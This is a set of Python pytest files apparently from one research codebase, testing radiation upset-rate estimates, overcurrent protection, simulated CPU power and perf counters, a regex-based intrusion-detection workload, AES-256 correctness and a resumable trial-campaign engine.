    def test_run_and_report_agree(self, cold_result, fleet_store, tmp_path,
                                  capsys):
        spec_path = tmp_path / "fleet.json"
        spec_path.write_text(json.dumps(tiny_spec().to_dict()))
        run_json = tmp_path / "run.json"
        assert main([
            "fleet", "run", "--spec", str(spec_path),
            "--store", str(fleet_store.root), "--report", str(run_json),
        ]) == 0
        out = capsys.readouterr().out
        assert "replayed from store: 8" in out
        rep_json = tmp_path / "rep.json"
        assert main([
            "fleet", "report", "--spec", str(spec_path),
            "--store", str(fleet_store.root), "--report", str(rep_json),
        ]) == 0
        assert run_json.read_bytes() == rep_json.read_bytes()
        assert run_json.read_text() == report_json(cold_result.report)
