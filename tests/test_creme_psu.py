"""Tests for the CRÈME-style SEU estimator and PSU overcurrent protection."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.radiation.creme import (
    DEEP_SPACE_SPECTRUM,
    LEO_SPECTRUM,
    MARS_SURFACE_SPECTRUM,
    SEA_LEVEL_SPECTRUM,
    SNAPDRAGON_801,
    DeviceSensitivity,
    LetSpectrum,
    WeibullCrossSection,
    device_upsets_per_day,
    estimate_environment_rates,
    physics_environment,
    upset_rate_per_bit_day,
)
from repro.sim import (
    CurrentStep,
    OcpConfig,
    OvercurrentProtection,
    TelemetryConfig,
    TraceGenerator,
    quiescent_segment,
)


class TestLetSpectrum:
    def test_flux_zero_outside_range(self):
        spectrum = LetSpectrum(name="t", amplitude=100.0, slope=2.5)
        assert spectrum.flux(np.array([0.01]))[0] == 0.0
        assert spectrum.flux(np.array([500.0]))[0] == 0.0
        assert spectrum.flux(np.array([1.0]))[0] == 100.0

    def test_integral_flux_closed_form(self):
        spectrum = LetSpectrum(name="t", amplitude=100.0, slope=2.0,
                               let_min=1.0, let_max=100.0)
        # ∫ 100 L^-2 dL from 1 to 100 = 100 (1 - 1/100) = 99.
        assert spectrum.integral_flux(1.0) == pytest.approx(99.0)
        assert spectrum.integral_flux(200.0) == 0.0

    def test_validation(self):
        with pytest.raises(ConfigurationError):
            LetSpectrum(name="t", amplitude=1.0, slope=0.5)
        with pytest.raises(ConfigurationError):
            LetSpectrum(name="t", amplitude=1.0, slope=2.0, let_min=5, let_max=1)


class TestWeibull:
    def test_zero_below_onset(self):
        xs = WeibullCrossSection(onset_let=1.0, width=10.0, shape=2.0, sigma_sat=1e-9)
        assert xs.sigma(np.array([0.5]))[0] == 0.0
        assert xs.sigma(np.array([1.0]))[0] == 0.0

    def test_saturates(self):
        xs = WeibullCrossSection(onset_let=1.0, width=5.0, shape=2.0, sigma_sat=1e-9)
        assert xs.sigma(np.array([100.0]))[0] == pytest.approx(1e-9, rel=1e-3)

    def test_monotone(self):
        xs = WeibullCrossSection(onset_let=0.5, width=10.0, shape=1.5, sigma_sat=1e-9)
        lets = np.linspace(0.6, 50, 40)
        sigmas = xs.sigma(lets)
        assert np.all(np.diff(sigmas) >= 0)


class TestCalibration:
    """The paper's three anchors must fall out of the physics."""

    def test_mars_rate_matches_creme_number(self):
        rate = device_upsets_per_day(MARS_SURFACE_SPECTRUM, SNAPDRAGON_801)
        assert rate == pytest.approx(1.6, rel=0.15)

    def test_sea_level_per_bit_rate(self):
        rate = upset_rate_per_bit_day(
            SEA_LEVEL_SPECTRUM, SNAPDRAGON_801.cross_section
        )
        assert rate == pytest.approx(2.3e-12, rel=0.2)

    def test_leo_to_sea_level_ratio(self):
        leo = upset_rate_per_bit_day(LEO_SPECTRUM, SNAPDRAGON_801.cross_section)
        sea = upset_rate_per_bit_day(SEA_LEVEL_SPECTRUM, SNAPDRAGON_801.cross_section)
        assert leo / sea == pytest.approx(7e5, rel=0.25)

    def test_deep_space_harshest(self):
        rates = estimate_environment_rates()
        assert rates["deep-space"] > rates["low-earth-orbit"] > rates["mars-surface"]

    def test_harder_cell_upsets_less(self):
        tough = DeviceSensitivity(
            name="rad-hard",
            cross_section=WeibullCrossSection(
                onset_let=15.0, width=30.0, shape=2.0, sigma_sat=1e-10
            ),
            sensitive_bits=SNAPDRAGON_801.sensitive_bits,
        )
        assert device_upsets_per_day(MARS_SURFACE_SPECTRUM, tough) < 0.05

    def test_physics_environment_factory(self):
        env = physics_environment("mars-surface", sel_per_year=0.5)
        assert env.seu_per_day == pytest.approx(1.6, rel=0.15)
        assert env.sel_per_year == 0.5
        with pytest.raises(ConfigurationError):
            physics_environment("venus")


class TestOvercurrentProtection:
    @pytest.fixture(scope="class")
    def generator(self):
        return TraceGenerator(TelemetryConfig(tick=2e-3))

    def test_classic_sel_trips(self, generator):
        ocp = OvercurrentProtection(OcpConfig(trip_threshold_amps=4.5))
        rng = np.random.default_rng(0)
        trace = generator.generate(
            [quiescent_segment(30.0)], rng=rng,
            current_steps=[CurrentStep(start=10.0, delta_amps=4.0)],
        )
        trips = ocp.scan(trace)
        assert trips
        assert trips[0].time == pytest.approx(10.0, abs=0.2)

    def test_micro_sel_invisible_to_ocp(self, generator):
        """The division of labour: OCP cannot see what ILD exists for."""
        ocp = OvercurrentProtection(OcpConfig(trip_threshold_amps=4.5))
        rng = np.random.default_rng(1)
        trace = generator.generate(
            [quiescent_segment(30.0)], rng=rng,
            current_steps=[CurrentStep(start=10.0, delta_amps=0.07)],
        )
        assert ocp.scan(trace) == []

    def test_transient_spikes_ride_through(self, generator):
        """Microsecond spikes must not trip the breaker (blanking)."""
        ocp = OvercurrentProtection(
            OcpConfig(trip_threshold_amps=3.2, blanking_seconds=0.05)
        )
        rng = np.random.default_rng(2)
        trace = generator.generate([quiescent_segment(60.0)], rng=rng)
        # Sensor spikes reach 1.2 A over ~1.8 A baseline = 3.0 A < wait,
        # isolated samples above threshold exist but never sustain.
        assert ocp.scan(trace) == []

    def test_would_trip_on(self):
        ocp = OvercurrentProtection(OcpConfig(trip_threshold_amps=5.5))
        assert ocp.would_trip_on(delta_amps=1.2, baseline_amps=4.6)
        assert not ocp.would_trip_on(delta_amps=0.07, baseline_amps=1.8)

    def test_config_validation(self):
        with pytest.raises(ConfigurationError):
            OcpConfig(trip_threshold_amps=0.0)
