"""Tests for cores, DVFS, the power model, sensor, and perf counters."""

import numpy as np
import pytest

from repro.errors import ConfigurationError, HardwareDamagedError
from repro.sim import (
    Core,
    CoreSpec,
    CurrentSensor,
    EnergyMeter,
    OndemandGovernor,
    PerfCounterSampler,
    PowerModel,
    SensorParams,
    feature_names,
    n_features,
)


class TestCore:
    def test_execute_advances_counters_and_time(self):
        core = Core(0)
        cost = core.execute(1_000_000, l1_hits=100, memory_fills=10)
        assert cost.seconds > 0
        assert core.counters.instructions == 1_000_000
        assert core.counters.cache_hits == 100
        assert core.busy_seconds == pytest.approx(cost.seconds)

    def test_higher_freq_is_faster(self):
        spec = CoreSpec()
        slow, fast = Core(0, spec), Core(1, spec)
        fast.set_freq(spec.max_freq)
        assert fast.execute(10**6).seconds < slow.execute(10**6).seconds

    def test_invalid_freq_rejected(self):
        core = Core(0)
        with pytest.raises(ConfigurationError):
            core.set_freq(123.0)

    def test_damaged_core_refuses_work(self):
        core = Core(0)
        core.damaged = True
        with pytest.raises(HardwareDamagedError):
            core.execute(100)

    def test_reset_faults_clears_poison_not_damage(self):
        core = Core(0)
        core.poisoned = True
        core.damaged = True
        core.reset_faults()
        assert not core.poisoned and core.damaged

    def test_branch_misses_cost_cycles(self):
        clean = Core(0).execute(10**6, branch_miss_rate=0.0)
        missy = Core(1).execute(10**6, branch_miss_rate=0.5)
        assert missy.cycles > clean.cycles


class TestGovernor:
    def test_steady_state_extremes(self):
        gov = OndemandGovernor()
        assert gov.steady_state_freq(0.0) == gov.spec.min_freq
        assert gov.steady_state_freq(1.0) == gov.spec.max_freq

    def test_steady_state_monotone(self):
        gov = OndemandGovernor()
        freqs = [gov.steady_state_freq(u) for u in np.linspace(0, 1, 21)]
        assert freqs == sorted(freqs)

    def test_array_matches_scalar(self):
        gov = OndemandGovernor()
        utils = np.linspace(0, 1, 11)
        array = gov.steady_state_freq_array(utils)
        scalar = [gov.steady_state_freq(u) for u in utils]
        assert np.allclose(array, scalar)

    def test_bad_thresholds(self):
        with pytest.raises(ConfigurationError):
            OndemandGovernor(up_threshold=0.2, down_threshold=0.5)


class TestPowerModel:
    def test_quiescent_in_paper_range(self):
        model = PowerModel()
        quiescent = model.quiescent_current(4, 600e6)
        assert 1.6 < quiescent < 1.9  # paper: ~1.7 A

    def test_max_in_paper_range(self):
        model = PowerModel()
        assert 4.0 < model.max_current(4) < 5.0  # paper: up to ~4.5 A

    def test_current_monotone_in_utilization(self):
        model = PowerModel()
        freq = np.full(4, 1.4e9)
        currents = [
            float(model.board_current(np.full(4, u), freq))
            for u in np.linspace(0, 1, 8)
        ]
        assert currents == sorted(currents)

    def test_current_monotone_in_frequency(self):
        model = PowerModel()
        util = np.full(4, 0.8)
        currents = [
            float(model.board_current(util, np.full(4, f)))
            for f in np.linspace(600e6, 1.4e9, 9)
        ]
        assert currents == sorted(currents)

    def test_vectorized_shapes(self):
        model = PowerModel()
        util = np.random.default_rng(0).random((100, 4))
        freq = np.full((100, 4), 1.0e9)
        out = model.board_current(util, freq, dram_gbs=np.zeros(100))
        assert out.shape == (100,)


class TestEnergyMeter:
    def test_idle_energy_scales_with_wall_time(self):
        meter = EnergyMeter()
        r1 = meter.measure(10.0, [0.0])
        r2 = meter.measure(20.0, [0.0])
        assert r2.idle_joules == pytest.approx(2 * r1.idle_joules)

    def test_busy_cores_add_energy(self):
        meter = EnergyMeter()
        idle = meter.measure(10.0, [0.0, 0.0, 0.0])
        busy = meter.measure(10.0, [10.0, 10.0, 10.0])
        assert busy.total_joules > idle.total_joules

    def test_rejects_negative(self):
        meter = EnergyMeter()
        with pytest.raises(ConfigurationError):
            meter.measure(-1.0, [0.0])
        with pytest.raises(ConfigurationError):
            meter.measure(1.0, [-2.0])


class TestSensor:
    def test_rolling_noise_magnitude(self):
        sensor = CurrentSensor()
        rng = np.random.default_rng(1)
        samples = sensor.sample(np.full(20000, 1.7), rng)
        # Raw quiescent sigma should land near the paper's 0.14 A.
        assert 0.08 < samples.std() < 0.25
        assert (samples >= 0).all()

    def test_quantization(self):
        sensor = CurrentSensor(SensorParams(noise_sigma=0.0, spike_probability=0.0))
        rng = np.random.default_rng(2)
        samples = sensor.sample(np.array([1.23456]), rng)
        assert samples[0] == pytest.approx(1.235, abs=1e-9)

    def test_oversample_shape(self):
        sensor = CurrentSensor()
        rng = np.random.default_rng(3)
        fine = sensor.oversample(np.ones(100), 4, rng)
        assert fine.shape == (400,)


class TestPerfCounters:
    def test_feature_names_layout(self):
        names = feature_names(2)
        assert len(names) == n_features(2) == 12
        assert names[0] == "core0.instruction_rate"
        assert names[-1] == "disk_write_ios"

    def test_sampler_rates(self):
        cores = [Core(0), Core(1)]
        sampler = PerfCounterSampler(cores)
        cores[0].execute(500_000)
        sampler.note_disk_ios(reads=10)
        frame = sampler.sample(0.5)
        assert frame.instruction_rate[0, 0] == pytest.approx(1_000_000)
        assert frame.instruction_rate[0, 1] == 0
        assert frame.disk_read_ios[0] == pytest.approx(20.0)
        # Second sample sees only new work.
        frame2 = sampler.sample(0.5)
        assert frame2.instruction_rate[0, 0] == 0
