"""Regex engine correctness, including differential tests against ``re``."""

import re

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import WorkloadError
from repro.workloads.regexengine import (
    DEFAULT_SIGNATURES,
    IntrusionDetectionWorkload,
    Regex,
)


class TestBasics:
    @pytest.mark.parametrize(
        "pattern,text,expected",
        [
            ("abc", b"xxabcxx", True),
            ("abc", b"axbxc", False),
            ("a*b", b"b", True),
            ("a*b", b"aaab", True),
            ("a+b", b"b", False),
            ("a+b", b"ab", True),
            ("a?b", b"ab", True),
            ("colou?r", b"my color", True),
            ("colou?r", b"my colour", True),
            ("(ab)+", b"abab", True),
            ("(ab|cd)e", b"xxcde", True),
            ("a|b|c", b"zzc", True),
            (".", b"", False),
            (".", b"x", True),
            ("x.z", b"xyz", True),
            ("x.z", b"xz", False),
        ],
    )
    def test_table(self, pattern, text, expected):
        assert Regex(pattern).search(text) is expected

    def test_classes(self):
        assert Regex("[a-c]+").search(b"zzzb")
        assert not Regex("[a-c]+").search(b"xyz"[:2])
        assert Regex("[^0-9]").search(b"a")
        assert not Regex("[^0-9]+").search(b"123")
        assert Regex(r"[\d]+").search(b"abc7")

    def test_escapes(self):
        assert Regex(r"\d\d").search(b"a42")
        assert not Regex(r"\d\d").search(b"a4b2")
        assert Regex(r"\w+@\w+").search(b"mail me@host now")
        assert Regex(r"\s").search(b"a b")
        assert Regex(r"\.").search(b"a.b")
        assert not Regex(r"\.").search(b"ab")
        assert Regex(r"\D").search(b"7a")
        assert not Regex(r"\D").search(b"42")

    def test_nested_groups(self):
        assert Regex("((a|b)c)+d").search(b"acbcd")
        assert not Regex("((a|b)c)+d").search(b"acb")

    def test_empty_alternative_matches_everything(self):
        assert Regex("a|").search(b"zzz")

    @pytest.mark.parametrize("bad", ["(", "[", "a)", "*a", "[z-a]", "(a"])
    def test_syntax_errors(self, bad):
        with pytest.raises(WorkloadError):
            Regex(bad)

    def test_linear_time_on_pathological_pattern(self):
        # (a+)+b makes backtrackers explode; automata stay linear.
        pattern = Regex("(a+)+b")
        assert not pattern.search(b"a" * 200 + b"c")


class TestDifferentialAgainstRe:
    ALPHABET = "ab1 "

    @given(
        st.text(alphabet="ab1|*+?().", min_size=1, max_size=8),
        st.text(alphabet=ALPHABET, min_size=0, max_size=20),
    )
    @settings(max_examples=300, deadline=None)
    def test_matches_stdlib(self, pattern, text):
        try:
            theirs = re.compile(pattern)
        except re.error:
            return
        try:
            ours = Regex(pattern)
        except WorkloadError:
            return  # stricter syntax is acceptable; wrong answers are not
        expected = theirs.search(text) is not None
        assert ours.search(text.encode()) is expected


class TestWorkload:
    def test_signatures_compile(self):
        for signature in DEFAULT_SIGNATURES:
            Regex(signature)

    def test_attack_packets_flagged(self):
        workload = IntrusionDetectionWorkload(packet_bytes=128, packets=30, hit_rate=1.0)
        spec = workload.build(np.random.default_rng(0))
        outputs = workload.reference_outputs(spec)
        flagged = sum(int.from_bytes(o, "little") != 0 for o in outputs)
        assert flagged == len(outputs)

    def test_clean_packets_mostly_clean(self):
        workload = IntrusionDetectionWorkload(packet_bytes=128, packets=30, hit_rate=0.0)
        spec = workload.build(np.random.default_rng(1))
        outputs = workload.reference_outputs(spec)
        flagged = sum(int.from_bytes(o, "little") != 0 for o in outputs)
        assert flagged <= 2  # random printable bytes rarely contain attacks

    def test_patterns_region_shared(self):
        spec = IntrusionDetectionWorkload(packets=5).build(np.random.default_rng(2))
        refs = {ds.regions["patterns"] for ds in spec.datasets}
        assert len(refs) == 1

    def test_corrupt_pattern_produces_flagged_output(self):
        workload = IntrusionDetectionWorkload(packet_bytes=64, packets=1, hit_rate=0.0)
        spec = workload.build(np.random.default_rng(3))
        inputs = spec.slice_inputs(spec.datasets[0])
        corrupted = bytearray(inputs["patterns"])
        corrupted[0] = ord("(")  # break the first signature's syntax
        output = workload.run_job({**inputs, "patterns": bytes(corrupted)}, {})
        assert int.from_bytes(output, "little") >> 63
