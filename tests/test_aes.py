"""AES-256 correctness: FIPS-197 vectors, roundtrips, avalanche."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import WorkloadError
from repro.workloads.aes import (
    AesWorkload,
    decrypt_block,
    decrypt_blocks,
    ecb_decrypt,
    ecb_decrypt_scalar,
    ecb_encrypt,
    ecb_encrypt_scalar,
    encrypt_block,
    encrypt_blocks,
    expand_key,
    expand_key_array,
)


class TestKnownAnswers:
    def test_fips197_c3_vector(self):
        # FIPS-197 Appendix C.3: AES-256 example vector.
        key = bytes(range(32))
        plaintext = bytes.fromhex("00112233445566778899aabbccddeeff")
        expected = bytes.fromhex("8ea2b7ca516745bfeafc49904b496089")
        assert ecb_encrypt(plaintext, key) == expected
        assert ecb_decrypt(expected, key) == plaintext

    def test_key_expansion_shape(self):
        words = expand_key(bytes(32))
        assert len(words) == 60
        assert all(len(w) == 4 for w in words)

    def test_bad_key_length(self):
        with pytest.raises(WorkloadError):
            expand_key(b"short")

    def test_bad_block_length(self):
        words = expand_key(bytes(32))
        with pytest.raises(WorkloadError):
            encrypt_block(b"123", words)
        with pytest.raises(WorkloadError):
            decrypt_block(b"123", words)

    def test_unaligned_ecb(self):
        with pytest.raises(WorkloadError):
            ecb_encrypt(b"12345", bytes(32))


class TestVectorized:
    """The batched numpy kernel must be byte-identical to the scalar loop."""

    def test_fips197_c3_vector_batched(self):
        key = bytes(range(32))
        round_keys = expand_key_array(key)
        plaintext = np.frombuffer(
            bytes.fromhex("00112233445566778899aabbccddeeff"), dtype=np.uint8
        ).reshape(1, 16)
        expected = bytes.fromhex("8ea2b7ca516745bfeafc49904b496089")
        cipher = encrypt_blocks(plaintext, round_keys)
        assert cipher.tobytes() == expected
        assert decrypt_blocks(cipher, round_keys).tobytes() == plaintext.tobytes()

    def test_expand_key_array_matches_words(self):
        key = bytes(range(32))
        flat = expand_key_array(key)
        assert flat.shape == (15, 16)
        assert flat.dtype == np.uint8
        words = expand_key(key)
        # Round r, column c of the flat layout is word 4r + c.
        for r in range(15):
            for c in range(4):
                assert list(flat[r, 4 * c : 4 * c + 4]) == words[4 * r + c]

    def test_matches_scalar_on_random_inputs(self):
        rng = np.random.default_rng(9)
        for n_blocks in (1, 2, 7, 64):
            key = rng.bytes(32)
            plaintext = rng.bytes(16 * n_blocks)
            vec = ecb_encrypt(plaintext, key)
            assert vec == ecb_encrypt_scalar(plaintext, key)
            assert ecb_decrypt(vec, key) == plaintext
            assert ecb_decrypt_scalar(vec, key) == plaintext

    def test_blocks_roundtrip(self):
        rng = np.random.default_rng(10)
        round_keys = expand_key_array(rng.bytes(32))
        blocks = rng.integers(0, 256, (33, 16), dtype=np.uint8)
        cipher = encrypt_blocks(blocks, round_keys)
        assert cipher.shape == blocks.shape
        assert not np.array_equal(cipher, blocks)
        assert np.array_equal(decrypt_blocks(cipher, round_keys), blocks)

    def test_empty_input(self):
        key = bytes(32)
        assert ecb_encrypt(b"", key) == b""
        with pytest.raises(WorkloadError):
            ecb_encrypt(b"", b"bad key")


class TestProperties:
    @given(st.binary(min_size=16, max_size=64).filter(lambda b: len(b) % 16 == 0),
           st.binary(min_size=32, max_size=32))
    @settings(max_examples=25, deadline=None)
    def test_roundtrip(self, plaintext, key):
        assert ecb_decrypt(ecb_encrypt(plaintext, key), key) == plaintext

    def test_avalanche_in_plaintext(self):
        key = bytes(range(32))
        a = bytes(16)
        b = b"\x01" + bytes(15)
        ca, cb = ecb_encrypt(a, key), ecb_encrypt(b, key)
        flipped = sum(bin(x ^ y).count("1") for x, y in zip(ca, cb))
        assert 40 <= flipped <= 88  # ~half of 128 bits

    def test_avalanche_in_key(self):
        plaintext = bytes(16)
        k1 = bytes(32)
        k2 = b"\x01" + bytes(31)
        c1, c2 = ecb_encrypt(plaintext, k1), ecb_encrypt(plaintext, k2)
        flipped = sum(bin(x ^ y).count("1") for x, y in zip(c1, c2))
        assert 40 <= flipped <= 88

    def test_ecb_blocks_independent(self):
        key = bytes(range(32))
        block = b"same block 16by!"
        ciphertext = ecb_encrypt(block * 3, key)
        assert ciphertext[:16] == ciphertext[16:32] == ciphertext[32:48]


class TestWorkload:
    def test_build_shares_key_region(self):
        spec = AesWorkload(chunk_bytes=64, chunks=10).build(np.random.default_rng(0))
        key_refs = {ds.regions["key"] for ds in spec.datasets}
        assert len(key_refs) == 1
        data_refs = [ds.regions["data"] for ds in spec.datasets]
        assert len(set(data_refs)) == len(data_refs)

    def test_jobs_match_direct_encryption(self):
        workload = AesWorkload(chunk_bytes=32, chunks=4)
        spec = workload.build(np.random.default_rng(1))
        outputs = workload.reference_outputs(spec)
        key = spec.blobs["key"]
        for ds, output in zip(spec.datasets, outputs):
            ref = ds.regions["data"]
            chunk = spec.blobs["plaintext"][ref.offset : ref.end]
            assert output == ecb_encrypt(chunk, key)

    def test_corrupted_key_changes_output(self):
        workload = AesWorkload(chunk_bytes=32, chunks=1)
        spec = workload.build(np.random.default_rng(2))
        inputs = spec.slice_inputs(spec.datasets[0])
        good = workload.run_job(inputs, {})
        bad_key = bytearray(inputs["key"])
        bad_key[5] ^= 0x10
        bad = workload.run_job({**inputs, "key": bytes(bad_key)}, {})
        assert good != bad

    def test_invalid_chunk_size(self):
        with pytest.raises(WorkloadError):
            AesWorkload(chunk_bytes=17)
