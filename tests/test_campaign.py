"""The campaign engine: fingerprints, the trial store, and resume.

The load-bearing property is byte-identity: a campaign resumed from a
partially (or fully) populated store must aggregate to exactly the
result of an uninterrupted run, because the engine canonicalises every
value — fresh or replayed — through the same encode -> JSON -> decode
round-trip and every trial's RNG is pinned by ``(seed_root,
seed_index)`` rather than by which trials happen to run.
"""

import json

import numpy as np
import pytest

from repro.analysis.report import Series, Table
from repro.campaign import (
    STORE_SCHEMA,
    Campaign,
    Trial,
    TrialStore,
    canonical_json,
    decode_report,
    encode_report,
    execute,
    jsonify,
    status,
    trial_rng,
)
from repro.errors import ConfigurationError
from repro.obs import MetricsRegistry


def _seeded_trial(item, rng, tracer=None):
    """Deterministic per-seed payload: scaled draw plus the item."""
    return {"draw": float(rng.random()), "scale": item}


def _plain_trial(item, rng, tracer=None):
    assert rng is None
    return item * 2


def _tuple_trial(item, rng, tracer=None):
    return (item, [item, item + 1])


def _opaque_trial(item, rng, tracer=None):
    return object()


def _traced_trial(item, rng, tracer=None):
    if tracer is not None:
        tracer.span("trial", t=0.0, dur=1.0, item=item)
        tracer.event("work", t=0.5, item=item)
    return item


def _grid(n=4, seed=7, **kwargs) -> Campaign:
    return Campaign(
        name="unit-grid",
        trial_fn=_seeded_trial,
        trials=[Trial(params={"i": i}, item=i) for i in range(n)],
        seed=seed,
        context={"flavour": "unit"},
        **kwargs,
    )


class TestFingerprints:
    def test_stable_across_resolutions(self):
        a = [s.fingerprint for s in _grid().specs()]
        b = [s.fingerprint for s in _grid().specs()]
        assert a == b

    def test_param_change_diverges(self):
        camp = _grid()
        moved = _grid()
        moved.trials[2].params = {"i": 2, "variant": "x"}
        assert camp.specs()[2].fingerprint != moved.specs()[2].fingerprint
        # Untouched trials keep their fingerprints.
        assert camp.specs()[1].fingerprint == moved.specs()[1].fingerprint

    def test_context_seed_and_salt_all_count(self):
        base = _grid().specs()[0].fingerprint
        assert _grid(seed=8).specs()[0].fingerprint != base
        assert _grid(salt="v2").specs()[0].fingerprint != base
        shifted = _grid()
        shifted.context["flavour"] = "other"
        assert shifted.specs()[0].fingerprint != base

    def test_duplicate_fingerprints_rejected(self):
        camp = Campaign(
            name="dup",
            trial_fn=_plain_trial,
            trials=[Trial(params={"i": 0}), Trial(params={"i": 0})],
        )
        with pytest.raises(ConfigurationError, match="identical fingerprints"):
            camp.specs()

    def test_pinned_seed_index_makes_duplicates_distinct(self):
        camp = Campaign(
            name="pinned",
            trial_fn=_seeded_trial,
            trials=[
                Trial(params={"i": 0}, seed_root=3, seed_index=0),
                Trial(params={"i": 0}, seed_root=4, seed_index=0),
            ],
        )
        roots = [s.seed_root for s in camp.specs()]
        assert roots == [3, 4]


class TestTrialRng:
    def test_spawn_identity(self):
        # SeedSequence(root, spawn_key=(i,)) == SeedSequence(root).spawn(n)[i]
        root = 1234
        children = np.random.SeedSequence(root).spawn(6)
        for i in (0, 3, 5):
            expected = np.random.default_rng(children[i]).random(4)
            got = trial_rng(root, i).random(4)
            assert got.tolist() == expected.tolist()

    def test_none_root_means_no_rng(self):
        assert trial_rng(None, 0) is None

    def test_independent_of_grid_size(self):
        # The stream for index 2 is the same whether the grid holds 3
        # trials or 300 — the resume guarantee in miniature.
        assert (
            trial_rng(9, 2).random(3).tolist()
            == trial_rng(9, 2).random(3).tolist()
        )


class TestJsonify:
    def test_numpy_scalars_keep_their_kind(self):
        out = jsonify({"i": np.int64(1234), "f": np.float64(0.5)})
        assert out == {"i": 1234, "f": 0.5}
        assert isinstance(out["i"], int)
        assert isinstance(out["f"], float)

    def test_tuples_and_arrays_become_lists(self):
        assert jsonify((1, np.arange(3))) == [1, [0, 1, 2]]

    def test_unencodable_raises(self):
        with pytest.raises(ConfigurationError, match="encode/decode hooks"):
            jsonify(object())

    def test_canonical_json_is_sorted_and_compact(self):
        assert canonical_json({"b": 1, "a": [1, 2]}) == '{"a":[1,2],"b":1}'


class TestTrialStore:
    def test_put_get_round_trip(self, tmp_path):
        store = TrialStore(tmp_path / "store")
        fp = "ab" + "0" * 62
        entry = {"schema": STORE_SCHEMA, "result": [1, 2.5, "x"]}
        store.put(fp, entry)
        got = store.get(fp)
        # put stamps the content checksum; everything else round-trips.
        assert got is not None and "checksum" in got
        assert {k: v for k, v in got.items() if k != "checksum"} == entry
        assert fp in store
        assert len(store) == 1
        assert store.fingerprints() == [fp]

    def test_absent_and_corrupt_and_stale_are_none(self, tmp_path):
        store = TrialStore(tmp_path)
        fp = "cd" + "1" * 62
        assert store.get(fp) is None
        path = store.path(fp)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{truncated")
        with pytest.warns(RuntimeWarning, match="corrupt"):
            assert store.get(fp) is None
        path.write_text(json.dumps({"schema": 999, "result": 1}))
        with pytest.warns(RuntimeWarning, match="stale"):
            assert store.get(fp) is None
        assert store.counters["corrupt"] == 1
        assert store.counters["stale"] == 1

    def test_coerce(self, tmp_path):
        store = TrialStore(tmp_path)
        assert TrialStore.coerce(store) is store
        assert TrialStore.coerce(None) is None
        assert isinstance(TrialStore.coerce(str(tmp_path)), TrialStore)


class TestExecute:
    def test_values_in_grid_order_at_any_workers(self):
        serial = execute(_grid(), workers=1).values
        fanned = execute(_grid(), workers=2, force_pool=True).values
        assert serial == fanned
        assert [v["scale"] for v in serial] == [0, 1, 2, 3]

    def test_canonicalisation_applies_without_a_store(self):
        # Tuples become lists even in-memory: the engine always feeds
        # the aggregate the exact object a store replay would.
        camp = Campaign(
            name="tuples", trial_fn=_tuple_trial,
            trials=[Trial(params={"i": i}, item=i) for i in range(2)],
        )
        assert execute(camp).values == [[0, [0, 1]], [1, [1, 2]]]

    def test_cold_then_warm_store(self, tmp_path):
        store = TrialStore(tmp_path)
        cold_metrics = MetricsRegistry()
        cold = execute(_grid(), store=store, metrics=cold_metrics)
        warm_metrics = MetricsRegistry()
        warm = execute(_grid(), store=store, metrics=warm_metrics)

        assert warm.values == cold.values
        assert cold.executed == 4 and cold.store_hits == 0
        assert warm.executed == 0 and warm.store_hits == 4

        counters = cold_metrics.snapshot()["counters"]
        assert counters["campaign.trials.total"] == 4
        assert counters["campaign.trials.executed"] == 4
        assert counters["campaign.store.misses"] == 4
        counters = warm_metrics.snapshot()["counters"]
        assert counters["campaign.trials.executed"] == 0
        assert counters["campaign.store.hits"] == 4

    def test_partial_store_resume_matches_uninterrupted(self, tmp_path):
        # "Kill it halfway": run only the first two trials, then the
        # full grid against the same store.
        store = TrialStore(tmp_path)
        half = _grid()
        half.trials = half.trials[:2]
        execute(half, store=store)
        assert len(store) == 2

        resumed = execute(_grid(), store=store)
        uninterrupted = execute(_grid())
        assert resumed.values == uninterrupted.values
        assert resumed.executed == 2 and resumed.store_hits == 2

    def test_encode_decode_hooks(self, tmp_path):
        camp = Campaign(
            name="hooks",
            trial_fn=_plain_trial,
            trials=[Trial(params={"i": i}, item=i) for i in range(3)],
            encode=lambda v: {"doubled": v},
            decode=lambda d: d["doubled"],
        )
        store = TrialStore(tmp_path)
        assert execute(camp, store=store).values == [0, 2, 4]
        assert execute(camp, store=store).values == [0, 2, 4]
        entry = store.get(camp.specs()[1].fingerprint)
        assert entry["result"] == {"doubled": 2}

    def test_unsafe_result_without_hooks_raises(self):
        camp = Campaign(
            name="unsafe",
            trial_fn=_opaque_trial,
            trials=[Trial(params={"i": 0})],
        )
        with pytest.raises(ConfigurationError, match="encode/decode hooks"):
            execute(camp)

    def test_trace_resumes_byte_identically(self, tmp_path):
        camp = Campaign(
            name="traced",
            trial_fn=_traced_trial,
            trials=[Trial(params={"i": i}, item=i) for i in range(3)],
        )
        store = TrialStore(tmp_path / "store")
        cold_trace = tmp_path / "cold.jsonl"
        warm_trace = tmp_path / "warm.jsonl"
        execute(camp, store=store, trace_path=str(cold_trace))
        warm = execute(camp, store=store, trace_path=str(warm_trace))
        assert warm.executed == 0
        assert warm_trace.read_bytes() == cold_trace.read_bytes()

    def test_status_counts_completed(self, tmp_path):
        store = TrialStore(tmp_path)
        st = status(_grid(), store)
        assert (st.total, st.completed, st.pending) == (4, 0, 4)
        half = _grid()
        half.trials = half.trials[:3]
        execute(half, store=store)
        st = status(_grid(), store)
        assert (st.total, st.completed, st.pending) == (4, 3, 1)

    def test_contains_is_presence_only(self, tmp_path):
        store = TrialStore(tmp_path)
        camp = _grid()
        execute(camp, store=store)
        fp = camp.specs()[0].fingerprint
        assert store.contains(fp)
        assert fp in store
        assert not store.contains("0" * 64)
        # contains() is one stat: it does NOT checksum, so a corrupted
        # entry still reports present (get() is the verifying read).
        path = tmp_path / fp[:2] / f"{fp}.json"
        path.write_text("{garbage")
        assert store.contains(fp)
        with pytest.warns(RuntimeWarning, match="corrupt entry"):
            assert store.get(fp) is None

    def test_status_fast_skips_verification(self, tmp_path):
        store = TrialStore(tmp_path)
        execute(_grid(), store=store)
        fp = _grid().specs()[1].fingerprint
        (tmp_path / fp[:2] / f"{fp}.json").write_text("{garbage")

        fast = status(_grid(), store, fast=True)
        # The fast scan is presence-only: the defective entry still
        # counts as completed and nothing is quarantined.
        assert (fast.completed, fast.corrupt) == (4, 0)
        with pytest.warns(RuntimeWarning, match="corrupt entry"):
            full = status(_grid(), store)
        assert (full.completed, full.corrupt, full.pending) == (3, 1, 1)
        # The full scan quarantined the defect; fast now sees 3.
